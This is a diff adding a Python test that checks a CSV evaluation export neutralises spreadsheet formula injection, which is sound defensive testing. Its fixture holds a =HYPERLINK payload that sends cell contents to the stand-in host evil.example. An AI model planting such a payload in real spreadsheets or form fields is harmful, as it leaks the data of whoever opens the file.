@@ -70,6 +70,18 @@ def test_evaluation_export_in_csv_and_parquet_with_research_ids(service):
     assert first["rewards_m6"] == Decimal("20.00") and first["step_debts_m24"] is None
 
 
+def test_export_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(service):
+    client, app, _, _ = service
+    p = uuid.uuid4()
+    neighbourhood = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    feed(app, registered(p, on=D(2025, 1, 10), neighbourhood=neighbourhood))
+    feed(app, research_consent(p, D(2025, 1, 10)))
+    response = client.get("/exports/evaluation.csv", params={"as_of": "2026-03-01"})
+    cells = {r["neighbourhood"] for r in csv.DictReader(response.text.splitlines())}
+    assert "'" + neighbourhood in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+
+
 def test_views_are_as_of_today_where_the_organisation_is_by_default(service):
     client, _, people, _ = service
     with time_machine.travel(dt.datetime(2026, 1, 31, 23, 30, tzinfo=dt.UTC), tick=False):
